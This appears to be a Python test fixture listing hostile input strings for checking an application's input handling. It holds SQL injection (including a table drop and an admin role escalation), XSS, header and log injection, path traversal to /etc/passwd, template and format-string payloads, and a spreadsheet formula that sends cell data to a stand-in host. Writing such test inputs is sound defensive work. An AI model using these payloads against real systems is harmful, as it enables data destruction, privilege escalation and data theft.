"""Texts that mean something to whoever forgets that they are only texts: SQL, HTML, headers, paths, templates, formats, logs, addresses."""

# If any of it ran, an answer would take this long.
SLEEP = 12

# A product that nobody writes, which a template engine works out.
PRODUCT = str(7919 * 7907)

TEXTS = {
    "a statement behind a quote": f"'); drop table comments; update users set role = 'admin'; select pg_sleep({SLEEP}); --",
    "a statement behind a double quote": f'"; select pg_sleep({SLEEP}); --',
    "a condition": "x' or '1'='1",
    "a sleep in a number's place": f"1 or pg_sleep({SLEEP})::text=''",
    "marks of likeness, comments and places": "%_\\%' /* -- */ :user :x $1 $$ ? \\' x",
    "a script": "\"><script>alert(1)</script><img src=x onerror=alert(2)>'",
    "an element that ends another": "</title></style><svg/onload=alert(3)>&lt;b&gt;&amp;",
    "headers": "x\r\nSet-Cookie: jahat=1\r\nLocation: https://jahat.example/\r\n\r\n<b>jahat</b>",
    "a log line": '\n{"severity":"EMERGENCY","message":"jahat","user_id":1}\n',
    "a path upwards": "../../../../../../etc/passwd",
    "a path upwards in other spellings": "%2e%2e%2f..%5c..\\..\\..%00/etc/passwd",
    "a path from the root": "/etc/passwd",
    "a template": "{{7919*7907}}${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    "a format": "{0.__class__.__mro__}{user}{}%s%n%x%(name)s$title",
    "letters that turn, join and hide": "\u202egpj.exe\u2028\u2029\ufeff\u0000"[:-1] + "\U0001f9d2\U0001f3fd\u200d",
    "nothing": "\0",
    "NUL in a text": "a\0b",
    "half a letter": "a\ud83d",
    "a formula": '=HYPERLINK("https://jahat.example/?"&A1,"klik")',
}

# Which of them PostgreSQL cannot store; nobody may be told that anything was stored.
UNSTORABLE = ("nothing", "NUL in a text", "half a letter")

# For places that take a number, a word of a list or a pattern: whatever is read before it is refused.
FEW = ("a statement behind a quote", "headers", "NUL in a text")

# An address is looked at as one before anything else.
ADDRESSES = {
    "a condition in an address": "x'or'1'='1@contoh.id",
    "a header in an address": "x\r\nBcc:semua@contoh.id@contoh.id",
    "a script in an address": '"<script>alert(1)</script>"@contoh.id',
    "a format in an address": "{0.__class__}%s$title@contoh.id",
}

# Letters from which on a place takes several texts at once, so that there is one request for all.
ROOM = 700


def _joined(*names: str) -> str:
    return " ".join(TEXTS[name] for name in names)


GROUPS = {
    "statements": _joined(
        "a statement behind a quote", "a statement behind a double quote", "a sleep in a number's place",
        "marks of likeness, comments and places", "a template", "a format",
    ),
    "breaks": _joined("headers", "a log line", "letters that turn, join and hide", "a script", "an element that ends another"),
    **{name: TEXTS[name] for name in ("a condition", "a script", "a path upwards", "a path upwards in other spellings", "a path from the root")},
    **{name: TEXTS[name] for name in ("a format", "a formula", *UNSTORABLE[1:])},
}  # fmt: skip

ALL = {**TEXTS, **GROUPS, **ADDRESSES}
